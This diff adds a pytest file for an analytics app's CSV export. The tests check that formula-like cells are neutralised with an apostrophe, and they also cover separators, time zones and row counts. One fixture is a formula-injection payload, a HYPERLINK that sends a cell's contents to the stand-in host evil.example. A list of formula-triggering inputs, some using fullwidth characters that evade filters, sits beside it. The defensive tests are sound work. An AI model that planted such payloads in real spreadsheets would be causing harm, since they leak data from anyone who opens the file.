@@ -1,0 +1,149 @@
+import csv
+import re
+from contextlib import closing
+from datetime import date
+from io import BufferedReader, StringIO
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from streamlit.runtime.download_data_util import convert_data_to_bytes_and_infer_mime
+
+from analytics import downloads
+from analytics.access import MANAGER
+from analytics.downloads import inert
+from analytics.filters import Filters
+
+EVERYTHING = Filters(first=date(1970, 1, 1), last=date(2199, 12, 31), scope=MANAGER, version=0)
+HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"Åpne")'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        HOSTILE,
+        "=?utf-8?Q?Ordre_1001?=",
+        "@SUM(A1:A9)",
+        "+47 12 34 56 78",
+        "+tag@kunde.example",
+        "- 20 % på alt garn",
+        "-2+3",
+        "--2",
+        "-",
+        "-1e5",
+        "\t=1+1",
+        "\r=1+1",
+        "\0=1",
+        "\N{FULLWIDTH EQUALS SIGN}1+1",
+        "\N{FULLWIDTH PLUS SIGN}1",
+        "\N{FULLWIDTH HYPHEN-MINUS}1",
+        "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
+    ],
+)
+def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text):
+    assert inert(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "-2",
+        "-2,50",
+        "+4712345678",
+        "kari@kunde.example",
+        "Ordre 1001 = betalt",
+        "2026-01-05",
+        "",
+        "Hei;=1+1",
+        '"=1+1"',
+        "Hei\n=1+1",
+        " =1+1",
+    ],
+)
+def test_other_texts_stay_as_they_are(text):
+    assert inert(text) == text
+
+
+@given(st.text())
+def test_no_text_starts_a_formula_unless_it_is_a_number(text):
+    written = inert(text)
+    assert (
+        not written
+        or written[0] not in downloads.DANGEROUS
+        or re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", written)
+    )
+
+
+def rows_of(store, filters, language):
+    with closing(downloads.messages(store, filters, language)) as file:
+        return file.read()
+
+
+@pytest.mark.parametrize(("language", "separator"), [("nb", ";"), ("en", ",")])
+def test_a_spreadsheet_gets_its_separator_its_mark_and_its_words(store, language, separator):
+    content = rows_of(store, EVERYTHING, language)
+    assert content.startswith(b"\xef\xbb\xbf")
+    read = list(csv.DictReader(StringIO(content.decode("utf-8-sig")), delimiter=separator))
+    assert len(read) == 5_760
+    assert len(read[0]) == len(downloads.MESSAGES)
+    assert any("Europe/Oslo" in heading for heading in read[0])
+    assert not {"delivered", "failed"} & {cell for row in read[:500] for cell in row.values()}
+
+
+def test_times_are_the_shops_clock_and_the_newest_comes_first(store):
+    # Not the night when the clock is put back, whose hour comes twice.
+    chosen = EVERYTHING.narrowed(first=date(2026, 10, 27), last=date(2026, 10, 31))
+    content = rows_of(store, chosen, "en").decode("utf-8-sig")
+    times = [row["Sent (Europe/Oslo)"] for row in csv.DictReader(StringIO(content))]
+    newest = store.ask("log_page", chosen, rows=1, skipped=0)["sent_at"].iloc[0]
+    assert times[0] == newest.strftime("%Y-%m-%d %H:%M:%S")
+    assert times == sorted(times, reverse=True)
+
+
+def test_exactly_what_is_selected_is_downloaded(store):
+    chosen = EVERYTHING.narrowed(outcomes=("failed",))
+    lines = rows_of(store, chosen, "en").decode("utf-8-sig").splitlines()
+    counted = store.ask("count_totals", chosen)["emails"].iloc[0]
+    assert len(lines) == counted + 1
+
+
+def test_a_hostile_subject_is_inert_in_the_file(store):
+    with store.change() as cursor:
+        cursor.execute("UPDATE messages SET subject = $subject", {"subject": HOSTILE})
+    content = rows_of(store, EVERYTHING, "nb").decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""https' in content
+    assert ";=HYPERLINK" not in content
+    assert ';"=HYPERLINK' not in content
+
+
+def test_nothing_of_a_download_stays_on_the_disk(store):
+    rows_of(store, EVERYTHING, "en")
+    assert list(store.folder("temp").iterdir()) == []
+
+
+def test_rejected_rows_are_downloaded_with_their_line_and_why(store):
+    with store.change() as cursor:
+        cursor.execute("DELETE FROM rejected_rows")
+        cursor.execute("DELETE FROM imports")
+        cursor.execute(
+            "INSERT INTO imports BY NAME SELECT 7 AS batch, 'a.csv' AS file, '' AS sha256, "
+            "1 AS bytes, 'norwegian' AS format, 'Nordlys Garn' AS shop, 'Europe/Oslo' AS timezone, "
+            "TIMESTAMP '2026-11-24' AS imported_at, 1 AS seconds, 1 AS rows, 0 AS messages, "
+            "0 AS new, 0 AS updated, 0 AS unchanged, 1 AS rejected"
+        )
+        cursor.execute(
+            "INSERT INTO rejected_rows VALUES (7, 4, 'bad_time', '31.02.2026', '=1+1;Hei')"
+        )
+    with closing(downloads.rejected(store, EVERYTHING, 7, "en")) as file:
+        read = list(csv.DictReader(StringIO(file.read().decode("utf-8-sig"))))
+    assert [row["Line"] for row in read] == ["4"]
+    assert read[0]["The line"] == "'=1+1;Hei"
+    assert "time" in read[0]["Why it was rejected"]
+
+
+def test_a_download_is_a_file_that_streamlit_can_serve(store):
+    with closing(downloads.messages(store, EVERYTHING, "en")) as file:
+        assert isinstance(file, BufferedReader)
+        served, _mime = convert_data_to_bytes_and_infer_mime(file, TypeError())
+    assert served.startswith(b"\xef\xbb\xbf")
